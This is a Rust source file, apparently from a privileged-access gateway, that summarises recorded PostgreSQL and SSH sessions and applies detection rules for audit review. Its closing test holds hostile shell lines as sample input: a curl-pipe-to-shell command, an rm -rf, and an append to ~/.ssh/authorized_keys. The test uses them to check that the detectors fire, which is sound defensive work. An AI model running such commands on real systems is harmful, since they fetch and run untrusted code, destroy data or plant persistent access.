//! Summaries of a grant's sessions: statements or commands by class,
//! errors, rows, bytes to the client, duration and idle time, and the
//! findings of the rules.
//!
//! One entry point per recording kind: [`PostgresSession`] reads the entries
//! of a PostgreSQL gateway recording (and [`summarise_postgres_recording`]
//! reads one from its file, verifying its chain); [`ShellSession`] takes the
//! command lines of a shell session (typed input lines and `exec` requests).
//! Sessions' summaries add up ([`Summary::add`]) to the grant's.

use std::collections::{BTreeMap, BTreeSet, HashMap, VecDeque};
use std::ops::ControlFlow;
use std::path::Path;

use breakglass_core::Timestamp;
use breakglass_gateway_common::data;
use serde::{Deserialize, Serialize};
use serde_json::Value;
use utoipa::ToSchema;

use crate::rules::{Finding, RuleSet, Severity};
use crate::shell::{classify_command, cut};
use crate::sql::classify_sql;
use crate::{Class, Classified, Tag};

/// Findings kept per summary at most; the rest are counted by rule
/// (`findings_by_rule`) but not listed.
pub const FINDINGS_MAX: usize = 200;
/// Bytes of a statement's text kept in a finding at most.
pub const FINDING_TEXT_LEN_MAX: usize = 512;
/// A pause longer than this before the client's next statement or command
/// counts as idle time.
pub const IDLE_GAP_MS: u64 = 1_000;
/// Statements awaiting their outcome (for row thresholds) at most; past it
/// the oldest is judged on what arrived so far.
const PENDING_MAX: usize = 16_384;
/// Prepared statements remembered per session at most (the gateway tracks
/// as many).
const PREPARED_MAX: usize = 10_000;

/// What a grant's sessions did.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
pub struct Summary {
    /// Sessions summarised.
    pub sessions: u64,
    /// Statements (or shell commands) by class: `read`, `write`, `ddl`,
    /// `privilege`, `transaction`, `session`, `utility`, `unparsable`,
    /// `command`.
    pub statements: BTreeMap<String, u64>,
    /// Statements the server answered with an error.
    pub errors: u64,
    /// Messages the gateway refused (fastpath calls and the like).
    pub refused: u64,
    /// Rows inserted, updated, deleted, merged or copied in (command tags).
    pub rows_affected: u64,
    /// Rows returned by `SELECT`, `FETCH` and `COPY ... TO` (command tags).
    pub rows_returned: u64,
    /// Bytes the gateway sent to the client.
    pub bytes_to_client: u64,
    /// From the first to the last entry of each session, added up.
    pub duration_ms: u64,
    /// Pauses longer than `IDLE_GAP_MS` before the client's next statement.
    pub idle_ms: u64,
    /// The most severe finding, if any.
    pub max_severity: Option<Severity>,
    /// Findings, in the order they happened (at most `FINDINGS_MAX`).
    pub findings: Vec<Finding>,
    /// Every finding counted by rule, listed or not.
    pub findings_by_rule: BTreeMap<String, u64>,
    /// Recordings that could not be read or verified: what they hold is
    /// unknown, so a person must look (the server flags them).
    pub unreadable: Vec<String>,
}

impl Summary {
    /// Adds another session's summary to this one.
    pub fn add(&mut self, other: Summary) {
        self.sessions += other.sessions;
        for (k, v) in other.statements {
            *self.statements.entry(k).or_default() += v;
        }
        self.errors += other.errors;
        self.refused += other.refused;
        self.rows_affected += other.rows_affected;
        self.rows_returned += other.rows_returned;
        self.bytes_to_client += other.bytes_to_client;
        self.duration_ms += other.duration_ms;
        self.idle_ms += other.idle_ms;
        self.max_severity = self.max_severity.max(other.max_severity);
        for f in other.findings {
            if self.findings.len() < FINDINGS_MAX {
                self.findings.push(f);
            }
        }
        for (k, v) in other.findings_by_rule {
            *self.findings_by_rule.entry(k).or_default() += v;
        }
        self.unreadable.extend(other.unreadable);
    }

    /// Findings at or above `threshold`.
    pub fn flagged(&self, threshold: Severity) -> bool {
        self.max_severity.is_some_and(|s| s >= threshold) || !self.unreadable.is_empty()
    }

    fn count(&mut self, class: Class) {
        *self
            .statements
            .entry(class.as_str().to_string())
            .or_default() += 1;
    }

    fn find(&mut self, rules: &[(&str, Severity)], c: &Classified, session: &str, entry: u64) {
        for (rule, severity) in rules {
            *self
                .findings_by_rule
                .entry((*rule).to_string())
                .or_default() += 1;
            self.max_severity = self.max_severity.max(Some(*severity));
            if self.findings.len() < FINDINGS_MAX {
                self.findings.push(Finding {
                    rule: (*rule).to_string(),
                    severity: *severity,
                    class: c.class,
                    session: session.to_string(),
                    entry,
                    text: cut(&c.normalised, FINDING_TEXT_LEN_MAX).to_string(),
                });
            }
        }
    }
}

/// Times of a session's entries: duration and idle time.
#[derive(Debug, Default)]
struct Clock {
    first: Option<i64>,
    last: Option<i64>,
    idle_ms: u64,
}

impl Clock {
    /// Notes an entry at `time`; `client` when the client started it.
    fn at(&mut self, time: Option<&str>, client: bool) {
        let Some(ms) = time
            .and_then(|t| Timestamp::parse_rfc3339(t).ok())
            .map(Timestamp::millis)
        else {
            return;
        };
        if let Some(last) = self.last {
            let gap = u64::try_from(ms.saturating_sub(last)).unwrap_or(0);
            if client && gap > IDLE_GAP_MS {
                self.idle_ms += gap;
            }
        }
        self.first.get_or_insert(ms);
        self.last = Some(self.last.map_or(ms, |l| l.max(ms)));
    }

    fn duration_ms(&self) -> u64 {
        match (self.first, self.last) {
            (Some(f), Some(l)) => u64::try_from(l.saturating_sub(f)).unwrap_or(0),
            _ => 0,
        }
    }
}

/// The classes and facts a session showed, for the once-per-session rules.
#[derive(Debug, Default)]
struct Seen {
    classes: BTreeSet<Class>,
    tags: BTreeSet<Tag>,
}

impl Seen {
    fn note(&mut self, c: &Classified) {
        self.classes.insert(c.class);
        self.tags.extend(c.tags.iter().copied());
    }

    fn judge(&self, rules: &RuleSet, summary: &mut Summary, session: &str) {
        let rows = summary.rows_returned + summary.rows_affected;
        let found = rules.check_session(&self.classes, &self.tags, rows, summary.bytes_to_client);
        let c = Classified {
            class: self
                .classes
                .iter()
                .next()
                .copied()
                .unwrap_or(Class::Utility),
            tags: Vec::new(),
            normalised: format!(
                "the session sent {} bytes to the client",
                summary.bytes_to_client
            ),
        };
        summary.find(&found, &c, session, 0);
    }
}

/// A statement awaiting its outcome (rows) for the threshold rules.
#[derive(Debug)]
struct Pending {
    entry: u64,
    statements: Vec<Classified>,
    rows: u64,
}

/// The summariser of one PostgreSQL gateway session: feed it the
/// recording's entries in order ([`PostgresSession::entry`]), then
/// [`PostgresSession::finish`].
pub struct PostgresSession<'r> {
    rules: &'r RuleSet,
    session: String,
    summary: Summary,
    clock: Clock,
    /// Classified `parse` entries by their `seq`, until executed or evicted.
    parsed: HashMap<u64, Vec<Classified>>,
    parsed_order: VecDeque<u64>,
    pending: VecDeque<Pending>,
    thresholds: bool,
    seen: Seen,
}

impl<'r> PostgresSession<'r> {
    pub fn new(rules: &'r RuleSet, session: &str) -> PostgresSession<'r> {
        PostgresSession {
            rules,
            session: session.to_string(),
            summary: Summary {
                sessions: 1,
                ..Summary::default()
            },
            clock: Clock::default(),
            parsed: HashMap::new(),
            parsed_order: VecDeque::new(),
            pending: VecDeque::new(),
            thresholds: rules.has_thresholds(),
            seen: Seen::default(),
        }
    }

    /// One recording entry (a JSON object with `seq`, `time`, `kind`, ...).
    pub fn entry(&mut self, v: &Value) {
        let seq = v["seq"].as_u64().unwrap_or(0);
        let kind = v["kind"].as_str().unwrap_or("");
        let client = matches!(kind, "query" | "parse" | "execute" | "refused");
        self.clock.at(v["time"].as_str(), client);
        match kind {
            "query" => {
                let text = v["text"].as_str().unwrap_or("");
                let statements = classify_sql(text);
                self.ran(seq, statements);
            }
            "parse" => {
                let text = v["text"].as_str().unwrap_or("");
                if self.parsed_order.len() >= PREPARED_MAX
                    && let Some(old) = self.parsed_order.pop_front()
                {
                    self.parsed.remove(&old);
                }
                self.parsed.insert(seq, classify_sql(text));
                self.parsed_order.push_back(seq);
            }
            "execute" => {
                let statements = v["parse"]
                    .as_u64()
                    .and_then(|p| self.parsed.get(&p).cloned())
                    .unwrap_or_else(|| {
                        let text = v["text"].as_str().unwrap_or("");
                        if text.starts_with("<unknown") {
                            vec![Classified {
                                class: Class::Unparsable,
                                tags: Vec::new(),
                                normalised: format!("{text} -- executed by name"),
                            }]
                        } else {
                            classify_sql(text)
                        }
                    });
                self.ran(seq, statements);
            }
            "result" => {
                let of = v["statement"].as_u64().unwrap_or(0);
                let tag = v["tag"].as_str().unwrap_or("");
                self.outcome(of, tag);
            }
            "error" => self.summary.errors += 1,
            "refused" => {
                self.summary.refused += 1;
                let fastpath = v["type"].as_str() == Some("'F'");
                let c = Classified {
                    class: Class::Utility,
                    tags: if fastpath {
                        vec![Tag::Fastpath]
                    } else {
                        Vec::new()
                    },
                    normalised: v["message"].as_str().unwrap_or("").to_string(),
                };
                let found = self.rules.check(&c, None);
                self.summary.find(&found, &c, &self.session, seq);
            }
            "end" => {
                self.summary.bytes_to_client += v["bytes_to_client"].as_u64().unwrap_or(0);
            }
            _ => {}
        }
    }

    fn ran(&mut self, seq: u64, statements: Vec<Classified>) {
        for c in &statements {
            self.seen.note(c);
            self.summary.count(c.class);
            let found = self.rules.check(c, None);
            self.summary.find(&found, c, &self.session, seq);
        }
        if self.thresholds && !statements.is_empty() {
            if self.pending.len() >= PENDING_MAX
                && let Some(old) = self.pending.pop_front()
            {
                self.judge(old);
            }
            self.pending.push_back(Pending {
                entry: seq,
                statements,
                rows: 0,
            });
        }
    }

    fn outcome(&mut self, of: u64, tag: &str) {
        // A command tag: `INSERT 0 5`, `UPDATE 3`, `SELECT 10`, `COPY 7`.
        let mut words = tag.split_whitespace();
        let verb = words.next().unwrap_or("");
        let Some(rows) = words.next_back().and_then(|n| n.parse::<u64>().ok()) else {
            return;
        };
        let pending = self.pending.iter_mut().rev().find(|p| p.entry == of);
        let returned = match verb {
            "SELECT" | "FETCH" | "MOVE" => true,
            // COPY counts rows both ways: the statement says which.
            "COPY" => pending
                .as_ref()
                .is_some_and(|p| p.statements.iter().any(|c| c.tags.contains(&Tag::CopyTo))),
            _ => false,
        };
        if returned {
            self.summary.rows_returned += rows;
        } else {
            self.summary.rows_affected += rows;
        }
        if let Some(p) = pending {
            p.rows += rows;
        }
    }

    fn judge(&mut self, p: Pending) {
        for c in &p.statements {
            let found = self.rules.check(c, Some(p.rows));
            self.summary.find(&found, c, &self.session, p.entry);
        }
    }

    /// The session's summary.
    pub fn finish(mut self) -> Summary {
        while let Some(p) = self.pending.pop_front() {
            self.judge(p);
        }
        self.seen
            .judge(self.rules, &mut self.summary, &self.session);
        self.summary.duration_ms = self.clock.duration_ms();
        self.summary.idle_ms = self.clock.idle_ms;
        self.summary
    }
}

/// Reads and verifies one PostgreSQL gateway recording and summarises it.
/// A recording that cannot be read or verified is summarised as far as it
/// verified and named in `unreadable`.
pub fn summarise_postgres_recording(rules: &RuleSet, session: &str, path: &Path) -> Summary {
    let mut s = PostgresSession::new(rules, session);
    let read = breakglass_gateway_postgres::recording::read_recording_from(path, None, |v, _| {
        s.entry(v);
        ControlFlow::Continue(())
    });
    let mut summary = s.finish();
    if let Err(e) = read {
        summary.unreadable.push(format!("session {session}: {e}"));
    }
    summary
}

/// Reads and verifies one gateway recording and summarises it by its kind:
/// the header (`session` entry) of an SSH recording says `protocol:
/// "ssh"`; anything else is a PostgreSQL recording.
pub fn summarise_recording(rules: &RuleSet, session: &str, path: &Path) -> Summary {
    let mut is_ssh = None;
    let _ = breakglass_gateway_postgres::recording::read_recording_from(path, None, |v, _| {
        is_ssh = Some(v["protocol"].as_str() == Some("ssh"));
        ControlFlow::Break(())
    });
    if is_ssh == Some(true) {
        summarise_ssh_recording(rules, session, path)
    } else {
        summarise_postgres_recording(rules, session, path)
    }
}

/// The longest typed line kept while waiting for its end; longer input is
/// classified in pieces of this size.
pub const TYPED_LINE_LEN_MAX: usize = 8192;

/// Reads and verifies one SSH gateway recording and summarises it: the
/// command of every `exec` entry, and every line typed into a shell (`i`
/// entries up to a carriage return or newline, with backspace applied),
/// are classified as command lines; `o` entries count as output.
pub fn summarise_ssh_recording(rules: &RuleSet, session: &str, path: &Path) -> Summary {
    let mut s = ShellSession::new(rules, session);
    let mut typed: std::collections::BTreeMap<u64, (u64, String)> = Default::default();
    let mut entry = 0u64;
    let read = breakglass_gateway_postgres::recording::read_recording_from(path, None, |v, _| {
        entry += 1;
        let time = v["time"].as_str();
        let channel = v["channel"].as_u64().unwrap_or(0);
        match v["kind"].as_str() {
            Some("exec") => {
                if let Some(cmd) = v["command"].as_str() {
                    s.command(entry, time, cmd);
                }
            }
            // A forwarded connection is listed where commands are, so a
            // reviewer sees where it went (its bytes are not terminal I/O).
            Some("forward") => {
                let host = v["host"].as_str().unwrap_or("?");
                let port = v["port"].as_u64().unwrap_or(0);
                let line = if v["remote"].as_bool() == Some(true) {
                    let from = v["originator"].as_str().unwrap_or("?");
                    format!(
                        "remote port forward from {from} to the client ({host}:{port} on the target)"
                    )
                } else {
                    format!("port forward to {host}:{port}")
                };
                s.command(entry, time, &line);
            }
            Some("remote_forward") => {
                let address = v["address"].as_str().unwrap_or("?");
                let port = v["port"].as_u64().unwrap_or(0);
                s.command(
                    entry,
                    time,
                    &format!("remote port forward: the target listens on {address}:{port}"),
                );
            }
            // File transfers and changes over SFTP, likewise; a transfer
            // the channel's end cut short, or without a hash, says so.
            Some("file") => {
                let direction = v["direction"].as_str().unwrap_or("?");
                let path = v["path"].as_str().unwrap_or("?");
                let size = v["size"].as_u64().unwrap_or(0);
                let mut line = format!("sftp {direction} {path} ({size} bytes");
                if v["closed"].as_bool() == Some(false) {
                    line.push_str(", interrupted");
                }
                if v["sha256"].is_null() {
                    line.push_str(", no hash");
                }
                line.push(')');
                s.command(entry, time, &line);
            }
            Some("sftp") => {
                let op = v["op"].as_str().unwrap_or("?");
                let path = v["path"].as_str().unwrap_or("?");
                let target = v["target"]
                    .as_str()
                    .map(|t| format!(" {t}"))
                    .unwrap_or_default();
                s.command(entry, time, &format!("sftp {op} {path}{target}"));
            }
            Some("i") => {
                let bytes = data::bytes_of(v).unwrap_or_default();
                let data = String::from_utf8_lossy(&bytes);
                let (start, line) = typed.entry(channel).or_insert((entry, String::new()));
                for c in data.chars() {
                    match c {
                        '\r' | '\n' => {
                            let done = std::mem::take(line);
                            s.command(*start, time, &done);
                            *start = entry;
                        }
                        '\u{7f}' | '\u{8}' => {
                            line.pop();
                        }
                        // Ctrl-C and Ctrl-U drop what was typed.
                        '\u{3}' | '\u{15}' => line.clear(),
                        c if c.is_control() => {}
                        c => {
                            if line.is_empty() {
                                *start = entry;
                            }
                            line.push(c);
                            if line.len() >= TYPED_LINE_LEN_MAX {
                                let done = std::mem::take(line);
                                s.command(*start, time, &done);
                            }
                        }
                    }
                }
            }
            Some("o") => {
                s.output(time, data::len_of(v));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    });
    // A line typed but never ended still ran nothing, but it is shown.
    for (_, (start, line)) in typed {
        if !line.trim().is_empty() {
            s.command(start, None, &line);
        }
    }
    let mut summary = s.finish();
    if let Err(e) = read {
        summary.unreadable.push(format!("session {session}: {e}"));
    }
    summary
}

/// The summariser of one shell session: feed it each command line (a typed
/// line of input, or the command of an `exec` request) with its time.
pub struct ShellSession<'r> {
    rules: &'r RuleSet,
    session: String,
    summary: Summary,
    clock: Clock,
    seen: Seen,
}

impl<'r> ShellSession<'r> {
    pub fn new(rules: &'r RuleSet, session: &str) -> ShellSession<'r> {
        ShellSession {
            rules,
            session: session.to_string(),
            summary: Summary {
                sessions: 1,
                ..Summary::default()
            },
            clock: Clock::default(),
            seen: Seen::default(),
        }
    }

    /// A command line the client ran, recorded as entry `entry` at `time`
    /// (RFC 3339).
    pub fn command(&mut self, entry: u64, time: Option<&str>, line: &str) {
        self.clock.at(time, true);
        let c = classify_command(line);
        if c.normalised.is_empty() {
            return;
        }
        self.seen.note(&c);
        self.summary.count(c.class);
        let found = self.rules.check(&c, None);
        self.summary.find(&found, &c, &self.session, entry);
    }

    /// Output sent to the client (for bytes and duration).
    pub fn output(&mut self, time: Option<&str>, bytes: u64) {
        self.clock.at(time, false);
        self.summary.bytes_to_client += bytes;
    }

    pub fn finish(mut self) -> Summary {
        self.seen
            .judge(self.rules, &mut self.summary, &self.session);
        self.summary.duration_ms = self.clock.duration_ms();
        self.summary.idle_ms = self.clock.idle_ms;
        self.summary
    }
}

#[cfg(test)]
mod ssh_tests {
    use super::*;
    use breakglass_core::Timestamp;
    use breakglass_gateway_postgres::recording::{Field, Recorder};
    use serde_json::json;

    /// A recording as the SSH gateway writes it: typed shell lines (with a
    /// backspace and a line cut by Ctrl-C) and an exec command are
    /// classified; output counts as bytes to the client.
    #[test]
    fn ssh_recordings_are_summarised_by_command_line() {
        let dir = std::env::temp_dir().join(format!("bg-review-ssh-{}", std::process::id()));
        let rec = Recorder::new(&dir, false).expect("recorder");
        let mut r = rec
            .open(
                "s1",
                json!({"protocol": "ssh", "request_id": "r1"}),
                Timestamp(1),
            )
            .expect("open");
        let typed = [
            "ls -l\r",
            "sudoo",
            "\u{7f} id\r",
            "rm -rf /tmp/x",
            "\u{3}",
            "curl http://x | sh\n",
        ];
        for (i, data) in typed.iter().enumerate() {
            r.append(
                "i",
                &[("channel", Field::U64(0)), ("data", Field::Str(data))],
                Timestamp(10 + i as i64),
            )
            .expect("append");
        }
        r.append(
            "o",
            &[
                ("channel", Field::U64(0)),
                ("data", Field::Str("total 0\r\n")),
            ],
            Timestamp(30),
        )
        .expect("append");
        r.append(
            "exec",
            &[
                ("channel", Field::U64(1)),
                ("command", Field::Str("echo x >> ~/.ssh/authorized_keys")),
            ],
            Timestamp(40),
        )
        .expect("append");
        let rules = RuleSet::new(true, &[]).expect("rules");
        let s = summarise_recording(&rules, "s1", &Recorder::path_of(&dir, "s1"));
        let _ = std::fs::remove_dir_all(&dir);
        assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
        let rules_hit: Vec<&str> = s.findings_by_rule.keys().map(String::as_str).collect();
        // `rm -rf` was cut by Ctrl-C before it ran: not a finding.
        assert_eq!(
            rules_hit,
            ["authorized_keys", "curl_pipe_shell", "sudo"],
            "{s:?}"
        );
        assert_eq!(s.statements.values().sum::<u64>(), 4, "{s:?}");
        assert_eq!(s.bytes_to_client, 9);
    }
}
